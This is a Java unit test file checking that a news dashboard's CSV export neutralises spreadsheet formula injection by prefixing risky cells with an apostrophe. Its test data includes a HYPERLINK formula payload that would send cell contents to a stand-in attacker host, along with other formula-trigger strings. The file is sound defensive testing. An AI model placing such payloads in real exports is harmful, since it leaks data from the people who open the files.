package com.lcnews.trends.dashboard.ui;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

/** CSV exports cannot smuggle a formula into a spreadsheet; numbers and ordinary text are written unchanged. */
class CsvDownloadTest {

	private static String csv(List<String> header, CsvDownload.Rows rows) throws IOException {
		StringWriter out = new StringWriter();
		CsvDownload.write(header, rows, out);
		return out.toString();
	}

	/** The cells of the data rows, as a spreadsheet reads them. */
	private static List<List<String>> cells(String csv) throws IOException {
		try (CSVParser parser = CSVFormat.EXCEL.parse(new StringReader(csv))) {
			return parser.getRecords().stream().skip(1).map(CSVRecord::toList).toList();
		}
	}

	@Test
	void textCellsThatASpreadsheetWouldEvaluateGetALeadingApostrophe() throws IOException {
		String text = csv(List.of("id", "标题"), p -> {
			p.printRecord(1, "=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")");
			p.printRecord(2, "+1+2");
			p.printRecord(3, "-2+3");
			p.printRecord(4, "@SUM(A1:A9)");
			p.printRecord(5, "\t=1+1");
			p.printRecord(6, "\r=1+1");
		});

		assertThat(cells(text)).extracting(row -> row.get(1)).containsExactly(
				"'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")", "'+1+2", "'-2+3", "'@SUM(A1:A9)", "'\t=1+1",
				"'\r=1+1");
	}

	@Test
	void numbersOrdinaryTextAndEmptyCellsAreWrittenAsTheyAre() throws IOException {
		String text = csv(List.of("a", "b", "c", "d", "e", "f"),
				p -> p.printRecords(List.of(List.of(-3.5, "-3.5", "12%", "聊城市 = 鲁西", "", "a-b"))));

		assertThat(cells(text)).containsExactly(List.of("-3.5", "-3.5", "12%", "聊城市 = 鲁西", "", "a-b"));
	}

	@Test
	void headerCellsAreNeutralisedTooAndTheFileStartsWithAByteOrderMark() throws IOException {
		String text = csv(List.of("=cmd", "话题"), p -> {
		});

		assertThat(text).startsWith("\uFEFF'=cmd,话题");
	}

}
